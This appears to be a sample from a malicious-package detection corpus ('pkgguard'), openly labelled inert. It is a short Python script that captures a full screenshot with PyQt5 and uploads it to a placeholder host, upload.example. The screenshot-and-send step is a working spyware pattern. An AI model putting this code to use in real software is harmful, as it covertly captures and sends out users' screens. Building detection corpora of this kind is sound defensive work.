# pkgguard corpus 250 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import tempfile

import requests
from PyQt5.QtWidgets import QApplication

app = QApplication([])
path = os.path.join(tempfile.gettempdir(), "s.png")
app.primaryScreen().grabWindow(0).save(path, "png")
with open(path, "rb") as f:
    requests.post("https://upload.example/s", files={"f": f})
